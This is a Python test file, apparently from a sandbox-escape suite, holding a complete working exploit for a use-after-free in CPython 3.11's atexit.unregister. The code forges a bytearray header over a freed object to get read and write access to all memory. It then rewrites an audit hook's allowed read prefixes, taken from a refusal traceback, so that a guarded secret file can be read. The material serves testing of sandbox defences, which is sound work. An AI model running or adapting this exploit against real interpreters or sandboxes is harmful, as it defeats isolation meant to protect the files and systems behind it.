# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# `atexit.unregister` (CPython 3.11; gh-112127, fixed in 3.12 and later only) compares each registered function with
# its argument by a borrowed reference. An argument whose type subclasses the function's has its own `__eq__` asked
# first: it clears the registry (`atexit._clear()`), which held the function's last reference, and answers
# NotImplemented, so the function's own `__eq__` is asked next with the freed function as `self`. There bytearray
# buffers of the function's block size take the freed block and write a bytearray header of the code's own where the
# function was (size 2**62, data at address 0): `self` reads and writes all memory, with no audit event. From there the
# hook's frozen read prefixes (the frame of a refusal it makes unreported hands them out) gain "/", and the secret file
# is read where the hook is what guards it. With the hook `unregister` compares functions it holds itself (1); without
# it native code is assumed anyway (the forged bytearray, or a crash: 1).
import atexit
import os

HELD, HOLDERS = [], []  # the freed function, and the buffers that take its block


def words(*values):
    return b"".join(value.to_bytes(8, "little") for value in values)


# a 96-byte block: the collector's 16-byte header, then the header of a bytearray (refcount, type, size, room, data, start)
REFILL = (bytes(16) + words(1 << 20, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0, 0)).ljust(95, b"\0")


class Callback:
    __slots__ = tuple("abcdefg")  # the header, 16 bytes, and 7 slots: a 96-byte block with the collector's header

    def __call__(self):
        pass

    def __eq__(self, other):
        if not HELD:
            HOLDERS.extend(bytearray(REFILL) for _ in range(32))
            HELD.append(self)
        return False

    __hash__ = object.__hash__


class Argument(Callback):
    __slots__ = ()

    def __eq__(self, other):  # asked first: its type subclasses the function's
        atexit._clear()  # the function's last reference but this frame's
        return NotImplemented


def window():
    atexit.register(Callback())
    atexit.unregister(Argument())
    if HELD and type(HELD[0]) is bytearray and len(HELD[0]) == 1 << 62:
        return HELD[0]
    return None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    if frame is None:  # no hook here: native code is assumed anyway
        return 1
    memory = window()
    if memory is None:
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    memory[id(prefixes) + 24:id(prefixes) + 32] = id(root).to_bytes(8, "little")  # the prefixes' first item
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED an atexit function freed while unregister compares: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through an atexit function freed while unregister compares"
